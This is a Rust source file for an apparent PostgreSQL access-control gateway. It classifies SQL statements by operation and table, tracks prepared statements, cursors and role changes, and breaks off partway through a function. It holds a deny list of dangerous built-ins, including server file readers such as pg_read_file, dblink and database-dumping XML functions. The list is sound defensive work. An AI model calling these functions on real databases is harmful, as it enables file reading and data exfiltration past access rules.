//! Statement classification: parse with sqlparser and list every (operation, table) access.
//!
//! The classifier errs on the side of restriction: a write statement's operation is paired with
//! every table it mentions (so `UPDATE a ... FROM b` yields `update a` and `update b`, plus
//! `select` on both). Extra accesses can only make a decision stricter, never looser, because
//! the decision is the most restrictive over all accesses. Anything whose effect cannot be
//! known (an unknown function, `EXECUTE` of a prepared statement, an unmapped statement kind)
//! is flagged [`Classification::unknown`]; anything that does not parse is
//! [`Classification::unparsed`].

use std::collections::BTreeSet;
use std::ops::ControlFlow;

use proto::policy::Operation;
use sqlparser::ast::{
    AccessExpr, ArrayElemTypeDef, BinaryOperator, DataType, Expr, ObjectName, ObjectNamePart, Query, Select,
    SetExpr, Statement, TableFactor, Visit, Visitor, visit_relations, visit_statements,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;

/// A table name as PostgreSQL resolves it: unquoted parts folded to lower case.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct TableName {
    /// `schema.table` or `table` (catalog parts dropped).
    pub parts: Vec<String>,
}

impl TableName {
    fn from_object_name(n: &ObjectName) -> Option<Self> {
        let mut parts = Vec::new();
        for p in &n.0 {
            match p {
                ObjectNamePart::Identifier(id) => parts.push(ident_name(id)),
                ObjectNamePart::Function(_) => return None,
            }
        }
        let keep = parts.len().min(2);
        Some(Self { parts: parts.split_off(parts.len() - keep) })
    }

    /// The unqualified name.
    pub fn table(&self) -> &str {
        self.parts.last().map(String::as_str).unwrap_or_default()
    }

    /// The schema, when the name was qualified.
    pub fn schema(&self) -> Option<&str> {
        (self.parts.len() >= 2).then(|| self.parts[self.parts.len() - 2].as_str())
    }

    /// Was the name written without a schema?
    pub fn unqualified(&self) -> bool {
        self.parts.len() < 2
    }

    /// Every table of `schema`, or of every schema: what `GRANT ... ON ALL TABLES IN SCHEMA s`,
    /// `DROP SCHEMA s CASCADE` or a bare `VACUUM` acts on. Written `s.*` (or `*`).
    pub fn every(schema: Option<&ObjectName>) -> Self {
        // Only the schema's own name: a database part is the connection's.
        let schema = schema.and_then(Self::from_object_name).map(|s| s.table().to_string());
        Self { parts: schema.into_iter().chain(["*".to_string()]).collect() }
    }

    /// Does the name stand for every table ([`TableName::every`])?
    pub fn is_every(&self) -> bool {
        self.table() == "*"
    }

    /// Does a rule pattern (`orders`, `public.orders`, `audit_*`) match this table?
    ///
    /// Patterns fold to lower case, as unquoted names do. A table whose name keeps capitals
    /// (created quoted, `"User"`, or with non-ASCII capitals, which PostgreSQL does not fold)
    /// then matches only `loose`ly: deny and hold rules match names case-insensitively, so such
    /// a table cannot slip past them; an allow rule matches exactly.
    ///
    /// Every table ([`TableName::every`]) includes whatever table a deny or hold rule names
    /// (in the schema, if any); an allow rule must match every table (`*`, `public.*`). A table
    /// really named `"*"` is taken for every table too: stricter, never looser.
    pub fn matches(&self, pattern: &str, loose: bool) -> bool {
        // Called for every rule on every statement: allocate only for a pattern that
        // lowercasing could change (ASCII capitals, or anything not ASCII).
        let lower;
        let pattern = if pattern.bytes().any(|b| b.is_ascii_uppercase() || !b.is_ascii()) {
            lower = pattern.to_lowercase();
            lower.as_str()
        } else {
            pattern
        };
        let folded;
        let parts: &[String] = if loose
            && self.parts.iter().any(|p| p.bytes().any(|b| b.is_ascii_uppercase() || !b.is_ascii()))
        {
            folded = self.parts.iter().map(|p| p.to_lowercase()).collect::<Vec<_>>();
            &folded
        } else {
            &self.parts
        };
        let table = parts.last().map(String::as_str).unwrap_or_default();
        let table_ok = |t: &str| glob(t, table) || (loose && self.is_every());
        match pattern.split_once('.') {
            None => table_ok(pattern),
            Some((s, t)) if !t.contains('.') => {
                // An unqualified name in a statement may resolve to any schema: match on the table.
                let schema_ok = parts.len() < 2 || glob(s, &parts[0]);
                schema_ok && table_ok(t)
            }
            // Refused by validation: the connection names the database.
            Some(_) => false,
        }
    }
}

impl std::fmt::Display for TableName {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.parts.join("."))
    }
}

/// `*` matches any run of characters. Linear in the name for each star of the pattern (the
/// last star is where a mismatch resumes), so no pattern makes a statement slow to judge.
fn glob(pattern: &str, s: &str) -> bool {
    // Bytewise: a literal byte of the pattern never equals a UTF-8 continuation byte unless the
    // whole character matches, so matches fall on character boundaries.
    let (p, s) = (pattern.as_bytes(), s.as_bytes());
    let (mut pi, mut si) = (0, 0);
    let mut resume: Option<(usize, usize)> = None;
    while si < s.len() {
        if p.get(pi) == Some(&b'*') {
            resume = Some((pi + 1, si));
            pi += 1;
        } else if p.get(pi) == Some(&s[si]) {
            pi += 1;
            si += 1;
        } else if let Some((after_star, from)) = resume {
            resume = Some((after_star, from + 1));
            (pi, si) = (after_star, from + 1);
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&b| b == b'*')
}

/// One thing a statement does to one table (or to no table: `SET`, `SELECT 1`).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Access {
    pub operation: Operation,
    pub table: Option<TableName>,
}

/// What a message (one or more statements) does.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Classification {
    pub accesses: BTreeSet<Access>,
    /// Why the effect cannot be known, if it cannot.
    pub unknown: Option<String>,
    /// The parser's error, if the text did not parse.
    pub unparsed: Option<String>,
    /// A dangerous built-in was called, or a dangerous form used (`COPY ... PROGRAM`).
    pub denied_function: Option<String>,
    /// Number of statements.
    pub statements: usize,
    /// What each top-level statement does to the session's prepared statements, in order.
    pub effects: Vec<SessionEffect>,
    /// SQL-level `EXECUTE name` in this message.
    pub executes: Vec<String>,
    /// For each of [`Classification::executes`], the index of its top-level statement: what it
    /// runs is what the name is when that statement runs.
    pub executes_at: Vec<usize>,
    /// Functions called that are neither known read-only built-ins nor denied: their effect
    /// is unknown until their volatility is looked up ([`Classification::resolve_functions`]).
    pub functions: BTreeSet<FunctionRef>,
    /// Read-only built-ins called by an unqualified name: a user function of the same name in
    /// another schema may be the one the server picks (by argument types or `search_path`), so
    /// they too are looked up before the statement counts as a read.
    pub builtins: BTreeSet<FunctionRef>,
    /// Names read as a field of a value (`o.name`, `(expr).name`): where no column has that
    /// name, PostgreSQL calls a function of one argument of that name on the value
    /// (`(0::oid).lo_create`, `o.touch` for a `touch(orders)`). Unknown until the catalog says
    /// whether such a function exists ([`Classification::resolve_attribute_calls`]).
    pub attribute_calls: BTreeSet<String>,
    /// A statement ends the transaction block (`COMMIT`, `END`, or `ROLLBACK` other than to a
    /// savepoint): it makes what the block did durable, and what follows it in the message
    /// runs outside the block.
    pub ends_block: bool,
    /// A `COPY … FROM STDIN`: once it runs, the target reads the client's CopyData.
    pub copies_in: bool,
    /// What masking must know before the statements run (see `mask::PrecheckFacts`).
    pub mask_facts: crate::mask::PrecheckFacts,
    /// A function other than a known read-only built-in is called (kept when
    /// [`Classification::resolve_functions`] finds them read-only: a stable function may still
    /// change a setting).
    pub calls_functions: bool,
    /// Cursors `DECLARE` makes (a client may then fetch from one with an Execute of its name).
    pub declares: Vec<String>,
    /// Portals `FETCH` reads from: a cursor the session declared, or any portal of that name
    /// (one bound through the protocol runs its statement).
    pub fetches: Vec<String>,
    /// What the statement does to tables it reaches through the ones it names: a partition's
    /// or child's parents, a view's base tables (filled from the catalog by the relay). Deny
    /// and hold rules apply to these too.
    pub reaches: BTreeSet<Access>,
}

/// Is `name` a built-in function known to be read-only (when it is the one the server runs)?
pub fn is_read_only_builtin(name: &str) -> bool {
    READ_ONLY_FUNCTIONS.contains(&name)
}

/// Is `name` a built-in the gateway never lets run, whatever the rules say?
pub fn is_denied_builtin(name: &str) -> bool {
    DENIED_FUNCTIONS.contains(&name) || name.starts_with("lo_") || name.starts_with("dblink")
}

/// What a name read as a field of a value calls ([`Classification::attribute_calls`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttributeCall {
    /// No function of one argument has the name: a column.
    NoFunction,
    /// Only built-ins that are read-only.
    ReadOnly,
    /// A built-in on the denied list.
    Denied,
    /// A user function, a volatile built-in, or a failed lookup.
    MayWrite,
}

/// A called function, as written (schema only when qualified).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FunctionRef {
    pub schema: Option<String>,
    pub name: String,
}

impl std::fmt::Display for FunctionRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.schema {
            Some(s) => write!(f, "{s}.{}", self.name),
            None => f.write_str(&self.name),
        }
    }
}

impl Classification {
    /// Why the effect cannot be known, if it cannot: an unresolvable construct, an `EXECUTE`
    /// of a statement the session has not seen prepared, or a function of unknown volatility.
    pub fn unknown_effect(&self) -> Option<String> {
        self.unknown
            .clone()
            .or_else(|| {
                self.executes
                    .first()
                    .map(|n| format!("EXECUTE {n} runs a statement the gateway has not seen prepared"))
            })
            .or_else(|| self.functions.iter().next().map(|f| format!("function {f}() may have side effects")))
            .or_else(|| {
                self.builtins
                    .iter()
                    .next()
                    .map(|f| format!("function {f}() may be shadowed by a user function"))
            })
            .or_else(|| {
                self.attribute_calls
                    .iter()
                    .next()
                    .map(|n| format!("`.{n}` may call function {n}() on the value before it"))
            })
    }

    /// Drop the functions `read_only` says are not volatile.
    pub fn resolve_functions(&mut self, read_only: impl Fn(&FunctionRef) -> bool) {
        self.functions.retain(|f| !read_only(f));
        self.builtins.retain(|f| !read_only(f));
    }

    /// Settle [`Classification::attribute_calls`] by what the catalog says of each name: a
    /// column (no function of one argument has it) or a read-only built-in is no effect, a
    /// denied built-in denies the statement, and anything else stays an unknown effect.
    pub fn resolve_attribute_calls(&mut self, answer: impl Fn(&str) -> AttributeCall) {
        for n in std::mem::take(&mut self.attribute_calls) {
            match answer(&n) {
                AttributeCall::NoFunction => {}
                AttributeCall::ReadOnly => self.calls_functions = true,
                AttributeCall::Denied => {
                    self.denied_function.get_or_insert(n);
                }
                AttributeCall::MayWrite => {
                    self.calls_functions = true;
                    self.attribute_calls.insert(n);
                }
            }
        }
    }

    /// Could running this change a setting of the session, `standard_conforming_strings` or
    /// `client_encoding` among them? Only reads that call no function but known read-only
    /// built-ins, and statements that run nothing, cannot: `SET`, `RESET`, `DISCARD`, the end
    /// of a transaction block (which undoes a `SET LOCAL`), `DO`, `CALL`, functions, and the
    /// triggers of writes and DDL can.
    pub fn may_change_settings(&self) -> bool {
        use Operation as O;
        self.calls_functions
            || self.unknown_effect().is_some()
            || self.accesses.iter().any(|a| {
                !matches!(
                    a.operation,
                    O::Select | O::Show | O::Explain | O::Prepare | O::Deallocate | O::Listen | O::Notify
                )
            })
    }

    /// Could running this change `search_path` where its text does not say so? A change of
    /// role (under `"$user"`), and code the gateway does not read: `CALL`, `DO`, `EXECUTE` of
    /// a prepared statement, and functions other than known read-only built-ins.
    pub fn may_change_search_path(&self) -> bool {
        use Operation as O;
        self.calls_functions
            || !self.executes.is_empty()
            || self.accesses.iter().any(|a| matches!(a.operation, O::Escalate | O::Call | O::Do))
    }

    /// Replace each `EXECUTE name` by what the prepared statement does, when every name is known.
    /// Unknown names leave the classification unknown (and so subject to `unknown_operation`).
    ///
    /// Statements prepared earlier in the same message take precedence over `prepared`.
    pub fn resolve_executes(&mut self, prepared: impl Fn(&str) -> Option<Classification>) {
        if self.executes.is_empty() {
            return;
        }
        // What a name is when the statement executing it runs: the latest earlier statement of
        // this message that changed it, else the session's. One deallocated or discarded
        // before (the target then refuses the EXECUTE), or an EXECUTE whose place is not known,
        // stays unknown.
        let lookup = |j: usize, n: &str| {
            let Some(&at) = self.executes_at.get(j) else {
                return (!self.effects.iter().any(|e| e.touches_statement(n))).then(|| prepared(n)).flatten();
            };
            match self.effects[..at.min(self.effects.len())].iter().rev().find(|e| e.touches_statement(n)) {
                Some(SessionEffect::Prepare(_, c)) => Some((**c).clone()),
                Some(_) => None,
                None => prepared(n),
            }
        };
        let resolved: Vec<Option<Classification>> =
            self.executes.iter().enumerate().map(|(j, n)| lookup(j, n)).collect();
        if resolved.iter().any(Option::is_none) {
            return;
        }
        for p in resolved.into_iter().flatten() {
            self.accesses.extend(p.accesses.iter().cloned());
            if self.denied_function.is_none() {
                self.denied_function.clone_from(&p.denied_function);
            }
            if self.unknown.is_none() {
                self.unknown.clone_from(&p.unknown);
            }
            self.functions.extend(p.functions.iter().cloned());
            self.builtins.extend(p.builtins.iter().cloned());
            self.attribute_calls.extend(p.attribute_calls.iter().cloned());
            self.ends_block |= p.ends_block;
            self.calls_functions |= p.calls_functions;
            self.reaches.extend(p.reaches.iter().cloned());
        }
        self.executes.clear();
        self.executes_at.clear();
    }

    /// The operations, sorted by name, each once (built for every statement's decision event:
    /// a sorted Vec, no set).
    pub fn operations(&self) -> Vec<String> {
        let mut ops: Vec<&str> = self.accesses.iter().map(|a| a.operation.as_str()).collect();
        ops.sort_unstable();
        ops.dedup();
        ops.into_iter().map(str::to_string).collect()
    }

    /// The tables, sorted, each once.
    pub fn tables(&self) -> Vec<String> {
        let mut t: Vec<String> =
            self.accesses.iter().filter_map(|a| a.table.as_ref()).map(|t| t.parts.join(".")).collect();
        t.sort_unstable();
        t.dedup();
        t
    }
}

/// What a statement does to the session's prepared statements, once the server has run it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SessionEffect {
    /// `PREPARE name AS ...`, with what the prepared statement does.
    Prepare(String, Box<Classification>),
    /// `DEALLOCATE name` (`None`: `DEALLOCATE ALL`, which leaves portals open).
    Deallocate(Option<String>),
    /// `DISCARD ALL`: prepared statements and portals are gone. (`DISCARD PLANS`, `SEQUENCES`
    /// and `TEMP` touch neither.)
    DiscardAll,
    /// `DECLARE name CURSOR`: once it succeeds, no portal of that name existed before it (the
    /// target refuses a name in use), whatever the gateway remembers of one.
    Declare(Vec<String>),
    /// `CLOSE name` (`None`: `CLOSE ALL`, which closes protocol portals too).
    Close(Option<String>),
    /// `ROLLBACK TO SAVEPOINT`, `COMMIT`, `ROLLBACK`: portals made since (or all) are gone.
    EndsPortals,
    None,
}

impl SessionEffect {
    /// Could this change what the prepared statement `name` is?
    pub fn touches_statement(&self, name: &str) -> bool {
        match self {
            SessionEffect::Prepare(n, _) | SessionEffect::Deallocate(Some(n)) => n == name,
            SessionEffect::Deallocate(None) | SessionEffect::DiscardAll => true,
            _ => false,
        }
    }

    /// Could this change what the portal `name` is?
    pub fn touches_portal(&self, name: &str) -> bool {
        match self {
            SessionEffect::Declare(ns) => ns.iter().any(|n| n == name),
            SessionEffect::Close(Some(n)) => n == name,
            SessionEffect::Close(None) | SessionEffect::DiscardAll | SessionEffect::EndsPortals => true,
            _ => false,
        }
    }
}

/// Built-ins that are never allowed through the gateway, whatever the rules say.
const DENIED_FUNCTIONS: &[&str] = &[
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
    "set_config",
    // Read whole tables, schemas or databases (or run a query given as text) and hand them
    // back as XML or statistics: past any rule on the tables they read.
    "table_to_xmlschema",
    "table_to_xml_and_xmlschema",
    "query_to_xmlschema",
    "cursor_to_xmlschema",
    "schema_to_xml",
    "schema_to_xmlschema",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xmlschema",
    "database_to_xml_and_xmlschema",
    "ts_stat",
    // Runs its second argument as a query.
    "ts_rewrite",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_send_query",
    "pg_create_restore_point",
    "pg_switch_wal",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_drop_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_create_physical_replication_slot",
    "pg_replication_origin_create",
    "pg_import_system_collations",
    "query_to_xml",
    "query_to_xml_and_xmlschema",
    "table_to_xml",
    "cursor_to_xml",
];

/// Built-ins known to have no side effects.
const READ_ONLY_FUNCTIONS: &[&str] = &[
    // The row constructor `ROW(...)` parses as a function call.
    "row",
    "count",
    "sum",
    "avg",
    "min",
    "max",
    "every",
    "bool_and",
    "bool_or",
    "string_agg",
    "array_agg",
    "json_agg",
    "jsonb_agg",
    "json_object_agg",
    "jsonb_object_agg",
    "stddev",
    "variance",
    "percentile_cont",
    "percentile_disc",
    "mode",
    "row_number",
    "rank",
    "dense_rank",
    "lag",
    "lead",
    "first_value",
    "last_value",
    "ntile",
    "now",
    "current_timestamp",
    "current_date",
    "current_time",
    "localtimestamp",
    "clock_timestamp",
    "statement_timestamp",
    "transaction_timestamp",
    "date_trunc",
    "date_part",
    "extract",
    "age",
    "to_char",
    "to_date",
    "to_timestamp",
    "to_number",
    "make_date",
    "make_interval",
    "lower",
    "upper",
    "initcap",
    "length",
    "char_length",
    "octet_length",
    "substring",
    "substr",
    "position",
    "strpos",
    "trim",
    "btrim",
    "ltrim",
    "rtrim",
    "lpad",
    "rpad",
    "replace",
    "concat",
    "concat_ws",
    "left",
    "right",
    "split_part",
    "repeat",
    "reverse",
    "format",
    "md5",
    "sha256",
    "encode",
    "decode",
    "regexp_replace",
    "regexp_match",
    "regexp_matches",
    "regexp_split_to_array",
    "string_to_array",
    "array_to_string",
    "array_length",
    "cardinality",
    "unnest",
    "generate_series",
    "coalesce",
    "nullif",
    "greatest",
    "least",
    "abs",
    "ceil",
    "ceiling",
    "floor",
    "round",
    "trunc",
    "mod",
    "power",
    "sqrt",
    "exp",
    "ln",
    "log",
    "random",
    "sign",
    "to_json",
    "to_jsonb",
    "row_to_json",
    "json_build_object",
    "jsonb_build_object",
    "json_build_array",
    "jsonb_build_array",
    "jsonb_set",
    "json_extract_path",
    "jsonb_extract_path",
    "json_extract_path_text",
    "jsonb_extract_path_text",
    "jsonb_pretty",
    "json_array_length",
    "jsonb_array_length",
    "jsonb_each",
    "json_each",
    "jsonb_object_keys",
    "json_object_keys",
    "version",
    "current_user",
    "session_user",
    "current_schema",
    "current_database",
    "pg_typeof",
    "exists",
    "cast",
    "gen_random_uuid",
    "uuid_generate_v4",
    "quote_ident",
    "quote_literal",
    "quote_nullable",
    "pg_backend_pid",
    "pg_postmaster_start_time",
    "has_table_privilege",
    "has_schema_privilege",
    "pg_table_size",
    "pg_total_relation_size",
    "pg_relation_size",
    "pg_size_pretty",
    "pg_database_size",
    "obj_description",
    "col_description",
    "format_type",
    "pg_get_viewdef",
    "pg_get_indexdef",
    "pg_get_constraintdef",
    "array_position",
    "bit_length",
    "chr",
    "ascii",
    "translate",
    "starts_with",
    "width_bucket",
    "date",
    "timezone",
    "isfinite",
    "justify_days",
    "justify_hours",
    "array_remove",
    "array_append",
    "array_prepend",
    "array_cat",
    "to_tsvector",
    "to_tsquery",
    "plainto_tsquery",
    "ts_rank",
    "pg_sleep",
    "any",
    "all",
    "filter",
    "in",
];

/// A name as the server stores it: unquoted, ASCII letters fold to lower case (PostgreSQL leaves
/// other letters as they are); either way only the first 63 bytes count.
fn ident_name(id: &sqlparser::ast::Ident) -> String {
    masking::lineage::fold_ident(id)
}

fn function_name(n: &ObjectName) -> String {
    n.0.iter()
        .filter_map(|p| match p {
            ObjectNamePart::Identifier(id) => Some(ident_name(id)),
            ObjectNamePart::Function(_) => None,
        })
        .collect::<Vec<_>>()
        .join(".")
}

/// What a single statement node does, without looking inside it. `None`: effect unknown.
fn operation(stmt: &Statement) -> Option<Operation> {
    use Operation as O;
    Some(match stmt {
        Statement::Query(q) => {
            if masking::lineage::selects_into(&q.body) {
                return Some(O::Create);
            }
            if !q.locks.is_empty() { O::Lock } else { O::Select }
        }
        Statement::Insert(_) => O::Insert,
        Statement::Update(_) => O::Update,
        Statement::Delete(_) => O::Delete,
        Statement::Merge(_) => O::Merge,
        Statement::Truncate(_) => O::Truncate,
        Statement::CreateTable(_)
        | Statement::CreateView(_)
        | Statement::CreateIndex(_)
        | Statement::CreateSchema { .. }
        | Statement::CreateDatabase { .. }
        | Statement::CreateRole(_)
        | Statement::CreateSequence { .. }
        | Statement::CreateType { .. }
        | Statement::CreateDomain(_)
        | Statement::CreateExtension(_)
        | Statement::CreateFunction(_)
        | Statement::CreateProcedure { .. }
        | Statement::CreateTrigger(_)
        | Statement::CreatePolicy(_)
        | Statement::CreateVirtualTable { .. }
        | Statement::CreateServer(_)
        | Statement::CreateUser(_) => O::Create,
        Statement::AlterTable(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView { .. }
        | Statement::AlterRole { .. }
        | Statement::AlterSchema(_)
        | Statement::AlterType(_)
        | Statement::AlterPolicy(_)
        | Statement::AlterFunction(_)
        | Statement::AlterUser(_)
        | Statement::RenameTable(_) => O::Alter,
        Statement::Drop { .. }
        | Statement::DropFunction(_)
        | Statement::DropProcedure { .. }
        | Statement::DropTrigger(_)
        | Statement::DropPolicy(_)
        | Statement::DropExtension(_)
        | Statement::DropDomain(_) => O::Drop,
        Statement::Grant(_) | Statement::GrantRole(_) => O::Grant,
        Statement::Revoke(_) | Statement::RevokeRole(_) => O::Revoke,
        Statement::Copy { .. } => O::Copy,
        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => O::Transaction,
        Statement::ShowVariable { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowTables { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowSchemas { .. } => O::Show,
        Statement::Explain { .. } | Statement::ExplainTable { .. } => O::Explain,
        Statement::Prepare { .. } => O::Prepare,
        Statement::Deallocate { .. } => O::Deallocate,
        Statement::Declare { .. } | Statement::Fetch { .. } | Statement::Close { .. } => O::Cursor,
        Statement::Comment { .. } => O::Comment,
        Statement::Lock(_) | Statement::LockTables { .. } => O::Lock,
        Statement::Vacuum(_) => O::Vacuum,
        Statement::Analyze(_) => O::Analyze,
        Statement::LISTEN { .. } | Statement::UNLISTEN { .. } => O::Listen,
        Statement::NOTIFY { .. } => O::Notify,
        Statement::Discard { .. } => O::Discard,
        Statement::Set(_) | Statement::Reset(_) => O::Set,
        // CALL runs a procedure, EXECUTE a prepared statement the gateway has not tracked:
        // either can do anything.
        _ => return None,
    })
}

/// Classify the text of one simple-protocol message (one or more statements).
pub fn classify(sql: &str) -> Classification {
    let mut c = Classification::default();
    let scanned = super::scan::scan(sql);
    if let Some(why) = dollar_quote_hazard(sql).or(scanned.unreadable) {
        c.unparsed = Some(why);
        return c;
    }
    let statements = match Parser::parse_sql(&PostgreSqlDialect {}, sql) {
        Ok(s) => s,
        Err(e) => {
            c.unparsed = Some(e.to_string());
            return c;
        }
    };
    c.statements = statements.len();
    c.mask_facts = crate::mask::precheck_facts(&statements);
    if statements.is_empty() {
        // Only comments or semicolons: the server answers EmptyQueryResponse.
        return c;
    }
    for stmt in &statements {
        c.effects.push(effect(stmt));
        if matches!(stmt, Statement::Commit { .. } | Statement::Rollback { savepoint: None, .. }) {
            c.ends_block = true;
        }
        if escalates(stmt) {
            c.accesses.insert(Access { operation: Operation::Escalate, table: None });
        }
        classify_statement(stmt, &mut c);
        let at = c.effects.len() - 1;
        c.executes_at.resize(c.executes.len(), at);
        match stmt {
            Statement::Declare { stmts, .. } => {
                c.declares.extend(stmts.iter().flat_map(|d| d.names.iter().map(ident_name)));
            }
            Statement::Fetch { name, .. } => c.fetches.push(ident_name(name)),
            // Executing it binds values to these types: a domain's CHECK, a type's input
            // function run.
            Statement::Prepare { data_types, .. } => {
                if let Some(t) = data_types.iter().find_map(user_type) {
                    c.unknown = Some(format!("a parameter of type {t}, which may run user functions"));
                }
            }
            _ => {}
        }
    }
    if let Some(why) = scanned.unknown {
        c.unknown.get_or_insert(why);
    }
    c.calls_functions = !c.functions.is_empty();
    c
}

/// Where the server and the parser could disagree about where a dollar-quoted string starts or
/// ends. PostgreSQL's tag is `$`, then a letter, `_` or any byte of a non-ASCII character, then
/// those or digits, then `$` (`dolqdelim` in its scanner); the parser takes only Unicode
/// alphanumerics and `_`. So `$a€$` opens a string for the server and not for the parser, and
/// what the server then runs as a second statement the parser reads as part of a string (or the
/// reverse). A `$` followed by digits and then a tag character or `$` is a parameter to the
/// server (and an error since PostgreSQL 15) but may be a tag to the parser. Both are refused
/// wherever they appear, inside strings and comments too: the gateway does not trust its own
/// reading of where those are.
fn dollar_quote_hazard(sql: &str) -> Option<String> {
    let b = sql.as_bytes();
    let tag_start = |c: u8| c.is_ascii_alphabetic() || c == b'_' || c >= 0x80;
    let tag_cont = |c: u8| tag_start(c) || c.is_ascii_digit();
    let mut i = 0;
    while let Some(at) = b[i..].iter().position(|&c| c == b'$') {
        let start = i + at + 1;
        i = start;
        if b.get(start).is_some_and(|c| c.is_ascii_digit()) {
            let end = start + b[start..].iter().take_while(|c| c.is_ascii_digit()).count();
            if b.get(end).is_some_and(|&c| tag_start(c) || c == b'$') {
                return Some("a `$` parameter runs into a name or a `$`: the server and the gateway could read it differently".into());
            }
            continue;
        }
        if !b.get(start).is_some_and(|&c| tag_start(c)) {
            continue;
        }
        let end = start + b[start..].iter().take_while(|&&c| tag_cont(c)).count();
        if b.get(end) == Some(&b'$') && !b[start..end].is_ascii() {
            return Some("a dollar quote tag with non-ASCII characters: the server and the gateway could read where the string ends differently".into());
        }
    }
    None
}

/// Does this session-state statement widen the session's rights?
fn escalates(stmt: &Statement) -> bool {
    if !matches!(stmt, Statement::Set(_) | Statement::Reset(_) | Statement::StartTransaction { .. }) {
        return false;
    }
    let text = stmt.to_string().to_lowercase();
    let words: Vec<&str> =
        text.split(|c: char| c.is_whitespace() || c == '=').filter(|w| !w.is_empty()).collect();
    let target: Vec<&str> = match words.as_slice() {
        ["set" | "reset", "session" | "local", rest @ ..] => rest.to_vec(),
        ["set" | "reset", rest @ ..] => rest.to_vec(),
        _ => vec![],
    };
    let role_change = matches!(target.first(), Some(&"role") | Some(&"all"))
        || matches!(target.as_slice(), ["authorization", ..])
        || text.starts_with("set session authorization")
        || text.starts_with("reset session authorization");
    role_change
        || text.contains("read_only")
        || text.contains("read write")
        || text.contains("\"role\"")
        || text.contains("session_authorization")
}

fn effect(stmt: &Statement) -> SessionEffect {
    match stmt {
        Statement::Prepare { name, statement, .. } => {
            let mut inner = Classification { statements: 1, ..Default::default() };
            classify_statement(statement, &mut inner);
            SessionEffect::Prepare(ident_name(name), Box::new(inner))
        }
        Statement::Deallocate { name, .. } => {
            let n = ident_name(name);
            if n == "all" && name.quote_style.is_none() {
                SessionEffect::Deallocate(None)
            } else {
                SessionEffect::Deallocate(Some(n))
            }
        }
        Statement::Discard { object_type: sqlparser::ast::DiscardObject::ALL } => SessionEffect::DiscardAll,
        Statement::Declare { stmts, .. } => {
            SessionEffect::Declare(stmts.iter().flat_map(|d| d.names.iter().map(ident_name)).collect())
        }
        Statement::Close { cursor: sqlparser::ast::CloseCursor::All } => SessionEffect::Close(None),
        Statement::Commit { .. } | Statement::Rollback { .. } => SessionEffect::EndsPortals,
        Statement::Close { cursor: sqlparser::ast::CloseCursor::Specific { name } } => {
            SessionEffect::Close(Some(ident_name(name)))
        }
        _ => SessionEffect::None,
    }
}

fn relations_of(stmt: &Statement) -> BTreeSet<TableName> {
    let mut out = BTreeSet::new();
    let _ = visit_relations(stmt, |name| {
        if let Some(t) = TableName::from_object_name(name) {
            out.insert(t);
        }
        ControlFlow::<()>::Continue(())
    });
    let _ = stmt.visit(&mut Unlisted(&mut out));
    named_tables(stmt, &mut out);
    out
}

/// Tables queries name outside a FROM clause, which the relation visitor misses: `TABLE t`
/// (in a subquery, a CTE, a set operation, `DECLARE`, `COPY (...)`) and `SELECT ... INTO t`.
struct Unlisted<'a>(&'a mut BTreeSet<TableName>);

impl Visitor for Unlisted<'_> {
    type Break = ();

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
        // Nested queries (`(TABLE t)`) are visited on their own.
        fn table_commands(body: &SetExpr, out: &mut BTreeSet<TableName>) {
            match body {
                SetExpr::Table(t) => match &t.table_name {
                    Some(name) => {
                        let idents = t.schema_name.iter().chain([name]).cloned().collect::<Vec<_>>();
                        out.extend(TableName::from_object_name(&ObjectName::from(idents)));
                    }
                    // Not something the parser makes; if it did, the table is unknown.
                    None => {
                        out.insert(TableName::every(None));
                    }
                },
                SetExpr::SetOperation { left, right, .. } => {
                    table_commands(left, out);
                    table_commands(right, out);
                }
                _ => {}
            }
        }
        table_commands(&q.body, self.0);
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<()> {
        for target in s.into.iter().flat_map(|i| &i.targets) {
            let name = match target {
                Expr::Identifier(id) => TableName::from_object_name(&ObjectName::from(vec![id.clone()])),
                Expr::CompoundIdentifier(ids) => TableName::from_object_name(&ObjectName::from(ids.clone())),
                _ => None,
            };
            // A target that is not a name (the server refuses it) stands for any table.
            self.0.insert(name.unwrap_or_else(|| TableName::every(None)));
        }
        ControlFlow::Continue(())
    }
}

/// Tables a statement names that the visitor does not report as relations: the objects of
/// `COMMENT`, `GRANT`, `REVOKE`, `VACUUM`, the tables of triggers, the parents, sources and
/// referenced tables of `CREATE TABLE` and `ALTER TABLE`. A statement on every table of a
/// schema (or of the database) reports [`TableName::every`].
fn named_tables(stmt: &Statement, out: &mut BTreeSet<TableName>) {
    use sqlparser::ast::{
        AlterTableOperation as A, CommentObject as K, CreateTableLikeKind, ObjectType, SequenceOptions,
    };
    let mut add = |n: &ObjectName| out.extend(TableName::from_object_name(n));
    match stmt {
        // Drops every table in it: they are not named, so no rule on one would meet it.
